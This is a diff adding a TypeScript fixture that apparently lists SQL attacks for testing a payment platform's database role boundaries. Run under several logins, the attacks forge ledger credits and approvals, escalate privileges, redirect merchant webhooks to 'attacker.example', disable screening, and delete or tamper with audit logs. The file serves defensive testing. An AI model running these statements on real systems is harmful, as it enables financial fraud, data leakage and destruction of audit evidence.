@@ -1,0 +1,176 @@
+/** What somebody who has one of the program's logins would try: SQL, whole transactions where it takes more than a statement. */
+export type Attempt = { as: 'app' | 'participant' | 'identity' | 'evidence'; sql: string };
+
+const id = (name: string) => `(select id from participant where name = '${name}')`;
+const user = (name: string) => `(select id from app_user where username = '${name}')`;
+const merchant = `(select id from merchant where mch_id = 'M1001')`;
+const float = (name: string) => `account_of('participant', ${id(name)}, 'float')`;
+const open = `(select agt_order_no from collection_order where status = 1 and participant_id = ${id('agent02')} limit 1)`;
+const settled = `(select agt_order_no from collection_order where status in (2, 4) limit 1)`;
+const pending = `(select id from approval where state = 0 limit 1)`;
+const claim = `(select order_no from payout_order where status = 1 limit 1)`;
+const listed = `(select id from payout_order where status = 0 limit 1)`;
+/** An item of a command, in the name of somebody whose session is not known. */
+const item = (fields: string, who = 'agent02') =>
+  `json_build_object('actor_kind', 'user', 'actor_id', ${user(who)}, 'user_id', ${user(who)}, 'actor', '${who}', 'request_id', 'x', 'ip', '', ${fields})`;
+const confirm = (extra: string, who?: string) =>
+  `select * from confirm_collection_orders(json_build_array(${item(`'no', ${open}, 'taid', ${id('agent02')}, 'payer', '', 'free_below', 9999999999, ${extra}`, who)}))`;
+const forgedApproval = (kind: string, subject: string, payload: string, amount = 'null::bigint') => `
+  insert into approval (kind, subject_kind, subject_id, subject_name, lock_key, payload, base, lines, amount, needed, hash, reason, maker_id, expires_at)
+  select x.*, approval_hash(x.kind, x.subject_kind, x.subject_id, x.payload, x.base, x.lines, x.amount, x.needed), 'x', ${user('admin01')}, now() + interval '1 hour'
+  from (select '${kind}' as kind, 'x' as subject_kind, ${subject}::text as subject_id, 'x' as subject_name, gen_random_uuid()::text as lock_key, '${payload}'::jsonb as payload,
+    '{}'::jsonb as base, '[{"label": "a", "before": "", "after": "b"}]'::jsonb as lines, ${amount} as amount, 1 as needed) x;`;
+const vote = (who: string) =>
+  `insert into approval_check (approval_id, user_id, verdict, hash) select id, ${user(who)}, 'approve', hash from approval where id = (select max(id) from approval);`;
+const inForce = `update approval set state = 1, closed_at = now(), closed_by = ${user('admin02')} where id = (select max(id) from approval);
+  select set_config('app.approval', (select max(id)::text from approval), true);`;
+/** A table of the attacker's own making that says the approval is in force. */
+const shadow = `create temp table approval as select * from public.approval limit 0;
+  insert into pg_temp.approval (id, kind, subject_id, state, payload, amount) values (1, 'person.limits', (select id::text from person limit 1), 1, '{}', 1);
+  select set_config('app.approval', '1', true);`;
+
+const MONEY = [
+  `select credit_float(${id('agent02')}, 123456789, 'forged:1')`,
+  `select open_demo_balance(${float('agent02')}, 123456789, 'forged:2')`,
+  `select open_balance(${float('agent02')}, 123456789, 'forged:2')`,
+  `insert into ledger_opening (reference, account_id, amount) values ('forged:5', ${float('agent02')}, 123456789)`,
+  `select count_step_up(${user('agent02')}, 'sent', 1, now(), 5000000, 5000000)`,
+  `update step_up_sum set window_fen = 0, day_fen = 0`,
+  `select post_transfer('topup.credited', 'forged:3', '', array[${float('agent02')}, account_of('operator', 0, 'bank_clearing')], array[100, -100])`,
+  `insert into ledger_transfer (type, reference, order_no) values ('topup.credited', 'forged:4', '')`,
+  `insert into ledger_posting (transfer_id, line, account_id, amount) values (1, 99, ${float('agent02')}, 100)`,
+  `update ledger_balance set posted = posted + 1000000 where account_id = ${float('agent02')}`,
+  `update ledger_hold set state = 'released', closed_at = now() where state = 'open'`,
+  `delete from ledger_posting`,
+  confirm(`'paid', null`),
+  confirm(`'paid', null`, 'agent01'),
+  confirm(`'paid', null, 'session', 'guessed'`),
+  confirm(`'paid', null, 'session', encode((select token_hash from session limit 1), 'hex')`),
+  `select * from confirm_collection_orders(json_build_array(json_build_object('no', ${open}, 'actor_kind', 'system', 'actor', 'system:connector', 'channel', 'sandbox', 'paid', 1, 'payer', '', 'free_below', 1)))`,
+  `select * from confirm_collection_orders_proven(json_build_array(${item(`'no', ${open}, 'taid', ${id('agent02')}, 'payer', '', 'free_below', 9999999999`)}))`,
+  `update collection_order set status = 2 where agt_order_no = ${open}`,
+  `select refund_collection(${pending}, 'admin01')`,
+  `select refund_collection_proven(${pending}, 'admin01')`,
+  `select adjust_collection(${pending}, 'admin01')`,
+  `select close_collection_order(${open}, 'admin01', 'x')`,
+  `select close_collection_order(${settled}, 'admin01', 'x')`,
+  `select credit_approved_float(${pending})`,
+  `select set_config('app.approval', ${pending}::text, true); select credit_approved_float(${pending})`,
+  `select credit_bank_top_up(${pending}, 'admin01')`,
+  `select settle_deposit(1, false, true)`,
+  `select record_deposits(1, 'x', '[]')`,
+  `select confirm_deposit(1, 99)`,
+  `select decide_deposit(${pending}, 'admin01')`,
+  `select * from transfer_float(${item(`'no', 'HBX1', 'key', 'forged-key', 'sender', ${id('agent01')}, 'receiver', ${id('agent02')}, 'amount', 100, 'remark', ''`, 'agent01')})`,
+  `select * from request_cash_out(${item(`'no', 'TXX1', 'key', 'forged-key', 'participant', ${id('agent01')}, 'source', 'float', 'amount', 10000, 'acc_id', 1, 'remark', ''`, 'agent01')})`,
+  `select release_cash_out((select max(id) from approval), 'admin01')`,
+  `select return_cash_out((select max(id) from approval), 'admin01')`,
+  `select send_cash_out(${item(`'no', (select cash_out_no from cash_out limit 1), 'reference', 'x'`, 'admin01')})`,
+  `update cash_out set status = 1`,
+  `select * from create_payout_orders(${merchant}, 'k', 'n', 'i', 'aa', false, 'agent_float', '[]')`,
+  `select * from step_payout_claim(${item(`'step', 'accept', 'order_no', ${claim}`, 'admin01')})`,
+  `select * from step_payout_claim(json_build_object('step', 'accept', 'order_no', ${claim}, 'actor_kind', 'merchant', 'actor', 'merchant:M1001', 'merchant', ${merchant}, 'key_id', 'k', 'nonce', 'n1', 'idem', 'i1', 'hash', 'aa'))`,
+  `select * from claim_payouts(json_build_array(${item(`'id', ${listed}, 'taid', ${id('agent01')}, 'claim_no', 'QDX1'`, 'agent01')}))`,
+  `select * from close_payout(${item(`'ending', 4, 'order_no', (select order_no from payout_order where status = 0 limit 1), 'remark', 'x'`, 'admin01')})`,
+  `select settle_payout(o, c, 'x', now()) from payout_order o join payout_claim c on c.payout_id = o.id where o.status = 1`,
+  `update payout_order set status = 2`,
+  `insert into statement_line (source_id, import_id, file_hash, row_no, identity, at, has_clock, day, amount, account_no) values (1, 1, sha256('x'), 1, sha256('x'), now(), true, current_date, 1, 'x')`,
+  `insert into channel_notification (connector, notification_id, body_hash, agt_order_no) values ('sandbox', 'x', '', ${open})`,
+  `update person_usage set day_amount = 0, month_amount = 0`,
+];
+
+const APPROVALS = [
+  `${forgedApproval('float.credit', id('agent02'), '{"reference": "x"}', '100::bigint')}`,
+  `${forgedApproval('float.credit', id('agent02'), '{"reference": "x"}', '100::bigint')} ${vote('admin02')} ${inForce} select credit_approved_float((select max(id) from approval));`,
+  `insert into approval_check (approval_id, user_id, verdict, hash) select id, ${user('admin02')}, 'approve', hash from approval where id = ${pending}`,
+  `insert into approval_check (approval_id, user_id, verdict, hash, comment) select id, ${user('admin02')}, 'reject', hash, 'x' from approval where id = ${pending}`,
+  `select set_config('app.session', 'guessed', true); insert into approval_check (approval_id, user_id, verdict, hash) select id, ${user('admin02')}, 'approve', hash from approval where id = ${pending}`,
+  ...[1, 2, 3, 4].map(
+    (state) => `update approval set state = ${state}, closed_at = now(), closed_by = maker_id where id = ${pending}`,
+  ),
+  `update approval set payload = '{}' where id = ${pending}`,
+  `update approval set needed = 0 where id = ${pending}`,
+  `delete from approval where id = ${pending}`,
+  `update approval_kind set two_above = 99999999999`,
+  `update approval_kind set checkers = 1`,
+  `create function pg_temp.f() returns int language sql as 'select 1'`,
+  `${shadow} update person set daily_amount = daily_amount + 1 where id = (select min(id) from person)`,
+  `${shadow} select credit_approved_float(1)`,
+];
+
+const SETTINGS = [
+  `update app_user set roles = '{operator_admin}' where username = 'agent02'`,
+  `update app_user set password_hash = 'x'`,
+  `update app_user set totp_bound_at = null, totp_secret = null`,
+  `insert into app_user (username, password_hash, roles) values ('intruder', 'x', '{operator_admin}')`,
+  `select enter_user('intruder', 'x', '', '', '{operator_admin}', null, null, null)`,
+  `select change_staff(${user('risk01')}, '{operator_admin}', true)`,
+  `select reset_password(${user('admin01')}, 'x', now() + interval '1 day')`,
+  `select reset_two_factor(${user('admin01')})`,
+  `select save_role('operator_x', 'X', '{approval:read}', false)`,
+  `insert into session (user_id, token_hash, cookie_hash, device, expires_at, refresh_expires_at) values (${user('admin01')}, sha256('x'), sha256('y'), 'PC', now() + interval '1 day', now() + interval '1 day')`,
+  `update session set token_hash = sha256('x') where id = (select min(id) from session)`,
+  `insert into passkey (user_id, credential_id, public_key, counter, transports, name, created_at) values (${user('admin01')}, 'x', 'x', 0, '{}', 'x', now())`,
+  `insert into role (code, name, permissions) values ('operator_x', 'X', '{approval:read}')`,
+  `update role set permissions = '{approval:read}'`,
+  `insert into licence_profile overriding system value select (jsonb_populate_record(l, jsonb_build_object('id', l.id + 1000))).* from licence_profile l`,
+  `update licence_profile set valid_to = now() + interval '9 years'`,
+  `insert into merchant_fee (merchant_id, product_id, effective_from, rate) select ${merchant}, id, now() + interval '1 second', 1 from product limit 1`,
+  `update merchant set name = name where id = ${merchant}; insert into merchant_fee (merchant_id, product_id, effective_from, rate) select ${merchant}, id, now() + interval '1 second', 1 from product limit 1`,
+  `insert into merchant_key (key_id, merchant_id, secret) values ('forged', ${merchant}, 'x')`,
+  `update merchant set name = name where id = ${merchant}; insert into merchant_key (key_id, merchant_id, secret) values ('forged', ${merchant}, 'x')`,
+  `update merchant_key set secret = 'x'`,
+  `update merchant_key set expires_at = null where expires_at is not null`,
+  `insert into webhook_endpoint (merchant_id, url, verified_at) values (${merchant}, 'https://attacker.example/', now())`,
+  `update merchant set name = name where id = ${merchant}; insert into webhook_endpoint (merchant_id, url, verified_at) values (${merchant}, 'https://attacker.example/', now())`,
+  `update webhook_endpoint set url = 'https://attacker.example/'`,
+  `insert into webhook_secret (merchant_id, secret) values (${merchant}, 'x')`,
+  `update merchant set ip_allow = '{0.0.0.0/0}'`,
+  `insert into merchant (mch_id, name, legal_name, kyb_status, kyb_entered_by, kyb_reviewed_by, kyb_expires_at) values ('M9999', 'x', (select legal_name from merchant limit 1), 2, ${user('admin01')}, ${user('admin02')}, now() + interval '1 year')`,
+  `insert into participant_rate (participant_id, product_id, effective_from, rate) select ${id('agent01')}, id, now() + interval '1 second', 1 from product limit 1`,
+  `update participant set phone = phone where id = ${id('agent01')}; insert into participant_rate (participant_id, product_id, effective_from, rate) select ${id('agent01')}, id, now() + interval '1 second', 1 from product limit 1`,
+  `insert into participant_rate (participant_id, product_id, effective_from, rate) select ${id('agent02')}, id, now() + interval '1 second', 2 from product limit 1`,
+  `update person set daily_amount = 999999999999`,
+  `update participant set kyc_status = 2, kyc_reviewed_by = ${user('admin01')} where kyc_status <> 2`,
+  `update participant set kyc_reviewed_by = ${user('risk01')}`,
+  `insert into collection_account (participant_id, acc_type, out_auth_no, receive_user_name, min_amount, max_amount, status, check_status) select participant_id, acc_type, out_auth_no, receive_user_name, 1, 999999, 1, 'approved' from collection_account limit 1`,
+  `update collection_account set check_status = 'approved', checked_by = ${user('admin01')} where check_status = 'pending'`,
+  `update collection_account set out_auth_no = (select min(out_auth_no) from collection_account) where check_status = 'approved'`,
+  `update channel set secret = 'x'`,
+  `update product set max_amount = max_amount * 100`,
+  `insert into cash_out_terms overriding system value select (jsonb_populate_record(t, jsonb_build_object('id', t.id + 1000))).* from cash_out_terms t`,
+  `insert into jurisdiction_policy (code, name, services, settlement_modes, account_types, legal_basis, approval_id) values ('XX', 'x', '{collection}', '{agent_float}', '{2}', 'x', ${pending})`,
+  `update screening_hit set state = 1`,
+  `update screening_list set enabled = false`,
+  `select lift_freeze(1, 'admin01')`,
+  `update retention_period set months = 1`,
+];
+
+const auditRow = (kind: string, who: string, name: string) =>
+  `insert into audit_log (actor_kind, actor_id, actor_name, action, subject_kind, subject_id, request_id) values ('${kind}', ${who}, '${name}', 'x.y', 'x', '1', 'x')`;
+const AUDIT = [
+  auditRow('user', user('admin01'), 'admin01'),
+  auditRow('system', 'null', 'admin01'),
+  `select write_audit('user', 'admin01', 'x.y', 'x', '1', null, null, 'x', '')`,
+  `select write_audit('system', 'admin01', 'x.y', 'x', '1', null, null, 'x', '')`,
+  `select write_audit('system', 'system:admin01', 'x.y', 'x', '1', null, null, 'x', '')`,
+  `select write_audit('merchant', 'Admin01', 'x.y', 'x', '1', null, null, 'x', '')`,
+  `select set_config('app.session', 'guessed', true); select write_audit('user', 'admin01', 'x.y', 'x', '1', null, null, 'x', '')`,
+  `update audit_log set actor_name = 'x'`,
+  `delete from audit_log`,
+  `insert into audit_seal values (999999, 999999, sha256('x'))`,
+  `update audit_head set seq = seq + 1`,
+  `insert into event_log (kind, order_no, actor) values ('approval.checked', '1', 'admin01')`,
+  `alter table audit_log disable trigger all`,
+  `set session_replication_role = replica`,
+  `set role mashang`,
+];
+
+const as = (login: Attempt['as'], list: readonly string[]) => list.map((sql): Attempt => ({ as: login, sql }));
+/** All of them as the application; what moves money, votes and names as the other logins too. */
+export const ATTEMPTS: readonly Attempt[] = [
+  ...as('app', [...MONEY, ...APPROVALS, ...SETTINGS, ...AUDIT]),
+  ...as('participant', [...MONEY, ...APPROVALS, ...AUDIT]),
+  ...as('identity', [...MONEY, ...APPROVALS, ...AUDIT]),
+  ...as('evidence', [...APPROVALS, ...SETTINGS]),
+];
